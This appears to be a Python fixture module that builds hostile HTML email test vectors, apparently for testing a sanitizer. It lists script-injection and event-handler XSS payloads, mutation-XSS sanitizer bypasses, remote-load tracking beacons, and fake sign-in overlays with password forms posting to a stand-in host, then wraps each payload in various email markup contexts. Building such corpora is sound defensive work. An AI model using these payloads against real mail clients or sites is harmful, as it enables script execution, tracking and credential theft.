"""HTML of hostile mails: ways to run, load, send or dress up as something else, times ways to hide them."""

from __future__ import annotations

from itertools import product

SINK = "https://evil.example/beacon"
_RUN = f"fetch('{SINK}?run');parent.postMessage('ran','*')"

SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT/x>{_RUN}</SCRIPT >",
    f"<script src='{SINK}.js'></script>",
    f'<img src=x onerror="{_RUN}">',
    f"<img src=x oNeRrOr={_RUN.replace(' ', '')}>",
    f'<svg onload="{_RUN}"></svg>',
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{_RUN}"><text>x</text></a></svg>',
    f"<math><mtext><script>{_RUN}</script></mtext></math>",
    f'<body onload="{_RUN}">',
    f'<details open ontoggle="{_RUN}">x</details>',
    f'<video><source onerror="{_RUN}"></video>',
    f'<audio src=x onerror="{_RUN}"></audio>',
    f'<input autofocus onfocus="{_RUN}">',
    f'<marquee onstart="{_RUN}">x</marquee>',
    f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    f'<iframe src="javascript:{_RUN}"></iframe>',
    f'<object data="data:text/html,<script>{_RUN}</script>"></object>',
    f'<embed src="data:text/html,<script>{_RUN}</script>">',
    f'<a href="java&#10;script:{_RUN}" autofocus onfocus="{_RUN}">x</a>',
    f'<a href=" javascript:{_RUN}">x</a>',
    f'<a href="data:text/html,<script>{_RUN}</script>">x</a>',
    f'<p style="animation-name:x" onanimationstart="{_RUN}">x</p><style>@keyframes x{{}}</style>',
    f'<x contenteditable onblur="{_RUN}" onfocus="{_RUN}" tabindex=1 autofocus>x</x>',
)
# What is one thing to the cleaner and another to the browser (mXSS).
MUTATIONS = (
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={_RUN}>">',
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<svg><foreignObject><p><style><!--</style><img src=x onerror={_RUN}>--></p></foreignObject></svg>",
    f"<template><s><template><s><img src=x onerror={_RUN}></s></template></s></template>",
    f'<textarea><img title="</textarea><img src=x onerror={_RUN}>"></textarea>',
    f'<title><a title="</title><img src=x onerror={_RUN}>"></title>',
    f'<xmp><p title="</xmp><img src=x onerror={_RUN}>"></xmp>',
    f"<select><style><!--</style></select><img src=x onerror={_RUN}>-->",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[><img src=x onerror={_RUN}>]]>",
    f'<math><annotation-xml encoding="text/html"><style><img src=x onerror={_RUN}></style></annotation-xml></math>',
    f"<plaintext><img src=x onerror={_RUN}>",
    f'<img title="`><img src=x onerror={_RUN}>`">',
)
# What asks somebody else for something, which tells that the mail was read.
LOADS = (
    f'<img src="{SINK}.png">',
    f'<img srcset="{SINK}.png 2x">',
    f'<body background="{SINK}.png">',
    f"<table background='{SINK}.png'><tr><td background={SINK}>x</td></tr></table>",
    f'<link rel=stylesheet href="{SINK}.css">',
    f'<link rel=preload as=image href="{SINK}.png">',
    f'<link rel=prefetch href="{SINK}">',
    f"<style>@import url({SINK}.css); body{{background:url({SINK}.png)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({SINK}.woff)}}*{{font-family:x}}</style>",
    f'<p style="background:url({SINK}.png)">x</p>',
    f'<p style="list-style:url({SINK}.png);content:url({SINK});cursor:url({SINK}),auto">x</p>',
    f'<meta http-equiv=refresh content="0;url={SINK}">',
    f'<base href="{SINK}/"><img src=x.png>',
    f'<iframe src="{SINK}"></iframe>',
    f'<object data="{SINK}"></object><embed src="{SINK}">',
    f'<video src="{SINK}.mp4" poster="{SINK}.png" autoplay></video>',
    f'<audio src="{SINK}.mp3" autoplay></audio><track src="{SINK}">',
    f'<svg><image href="{SINK}.png" /><use href="{SINK}.svg#x" /></svg>',
    f'<input type=image src="{SINK}.png">',
    f'<portal src="{SINK}"></portal><frameset><frame src="{SINK}"></frameset>',
    f'<a href="{SINK}" ping="{SINK}" target=_top>x</a>',
)
# What takes a password, or covers the page of somebody else.
FORMS = (
    f'<form action="{SINK}" method=post><input name=password type=password><button>Go</button></form>',
    f"<form id=f action={SINK}></form><input form=f name=p><button form=f formaction={SINK}>Go</button>",
    f'<button formaction="{SINK}">Go</button>',
    "<select><option>1</option></select><textarea>x</textarea><input value=x>",
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Your session has ended</div>',
    "<style>body:before{content:'Sign in again';position:fixed;inset:0}</style>",
    '<p class="alert bad" id="main" role=alert hx-get=/queue hx-trigger=load data-once>Sign in again</p>',
    f"<isindex action={SINK} prompt=Password>",
    "<dialog open>Sign in again<input></dialog>",
)
WRAPPERS = (
    "{}",
    "<html><head><title>x</title></head><body><p>नमस्ते {}</p></body></html>",
    "<table><tr><td>{}",
    "<div><blockquote type=cite>{}</blockquote></div>",
    "<svg><desc>{}</desc></svg>",
    "<math><mi>{}</mi></math>",
    "</body></html>{}",
    "<!--[if mso]>{}<![endif]--> {}",
)
HOSTILE = (*SCRIPTS, *MUTATIONS, *LOADS, *FORMS)


def vectors() -> list[str]:
    """Return every payload in every wrapper."""
    return [wrapper.replace("{}", payload) for payload, wrapper in product(HOSTILE, WRAPPERS)]
